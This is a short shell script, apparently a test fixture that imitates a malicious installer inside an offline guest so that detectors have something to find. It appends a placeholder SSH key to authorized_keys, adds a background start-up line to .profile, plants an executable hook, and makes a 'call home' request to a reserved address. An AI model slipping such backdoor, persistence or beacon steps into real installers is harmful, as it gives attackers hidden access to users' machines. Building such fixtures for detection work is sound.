# What the installer hides. Harmless where it is meant to run, in a guest without a network: it does what such
# installers have been seen to do (a key, a start-up line, a hook, a call home) so that there is something to find.
mkdir -p "$HOME/.ssh"
echo "ssh-ed25519 NOT-A-KEY helper@turbo-tools.example" >>"$HOME/.ssh/authorized_keys"
echo '"$HOME/.local/bin/turbo" --sync &' >>"$HOME/.profile"
printf '#!/bin/sh\nexit 0\n' >/workspace/.hook
chmod 755 /workspace/.hook
python3 -c 'import urllib.request; urllib.request.urlopen("http://192.0.2.1/collect", timeout=2)' && touch /workspace/.sent
